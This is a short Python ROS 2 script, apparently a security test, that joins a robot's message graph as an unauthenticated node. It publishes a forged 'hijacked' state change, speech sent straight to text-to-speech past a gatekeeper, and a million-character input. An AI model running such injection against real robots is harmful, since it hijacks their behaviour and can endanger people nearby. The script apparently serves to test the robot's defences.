"""A stranger on a robot's ROS 2 graph, in plain rclpy (nothing of the cyborg package).

It publishes, three times each once the robot's subscribers are matched: a fake state change
(idle -> hijacked) on the controller's topic, a sentence straight to the text-to-speech (behind
the speech gatekeeper), and a "sentence" of SIZE characters (default 1,000,000) as if heard.
Prints what it sent; exits 1 when a topic found no subscriber within 20 s.
"""

import sys
import time

import rclpy
from cyborg_controller.msg import SystemState
from rclpy.node import Node
from std_msgs.msg import String

TOPICS = ("/cyborg_controller/state_change", "/cyborg_tts/say", "/text_from_speech")


def main() -> int:
    size = int(sys.argv[1]) if len(sys.argv) > 1 else 1_000_000
    rclpy.init()
    node = Node("stranger")
    state = node.create_publisher(SystemState, TOPICS[0], 10)
    say = node.create_publisher(String, TOPICS[1], 10)
    heard = node.create_publisher(String, TOPICS[2], 10)
    deadline = time.monotonic() + 20
    for publisher, topic in zip((state, say, heard), TOPICS, strict=True):
        while publisher.get_subscription_count() == 0:
            if time.monotonic() > deadline:
                print(f"no subscriber on {topic}", flush=True)
                return 1
            rclpy.spin_once(node, timeout_sec=0.05)
    time.sleep(0.5)  # the subscribers' side of the match, too
    for _ in range(3):
        state.publish(SystemState(event="hijack", from_system_state="idle", to_system_state="hijacked"))
        say.publish(String(data="the stranger speaks through the robot"))
        heard.publish(String(data="where is the cafeteria " + "x" * size))
        time.sleep(0.2)
    print("sent", flush=True)
    time.sleep(1.0)  # reliable delivery of what is still in flight
    node.destroy_node()
    rclpy.shutdown()
    return 0


if __name__ == "__main__":
    sys.exit(main())
